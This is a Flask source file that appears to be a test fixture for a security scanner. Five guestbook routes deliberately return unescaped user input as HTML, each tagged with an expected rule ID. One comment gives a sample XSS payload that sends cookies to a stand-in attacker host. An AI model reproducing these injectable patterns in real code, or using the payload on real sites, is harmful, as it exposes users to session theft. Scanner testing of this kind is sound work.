"""Guestbook with hand-built HTML responses."""

from flask import Flask, Response, make_response, request

app = Flask(__name__)


@app.route("/hello")
def hello():
    # ?name=<script>document.location='https://evil.example/?c='+document.cookie</script>
    return make_response("<h1>Hello, " + request.args.get("name", "guest") + "!</h1>")  # expect: PYTHON-FLASK-SEC-008


@app.route("/preview", methods=["POST"])
def preview():
    author = request.form["author"]
    body = request.form.get("body", "")
    html = f"<article><h2>{author}</h2><p>{body}</p></article>"
    resp = make_response(html, 200)  # expect: PYTHON-FLASK-SEC-008
    resp.headers["Cache-Control"] = "no-store"
    return resp


@app.route("/search")
def search():
    query = request.args.get("q", "")
    if query:
        page = "<p>Results for <b>%s</b></p>" % query
    else:
        page = "<p>Type something to search.</p>"
    return Response(page)  # expect: PYTHON-FLASK-SEC-008


@app.route("/entries", methods=["POST"])
def entries():
    rows = ""
    for entry in request.get_json()["entries"]:
        rows += "<li>{}</li>".format(entry["text"])
    return Response("<ul>" + rows + "</ul>", mimetype="text/html")  # expect: PYTHON-FLASK-SEC-008


@app.route("/unsubscribe")
def unsubscribe():
    email = request.args["email"]
    return Response(response="<p>" + email + " was removed.</p>", content_type="text/html; charset=utf-8")  # expect: PYTHON-FLASK-SEC-008
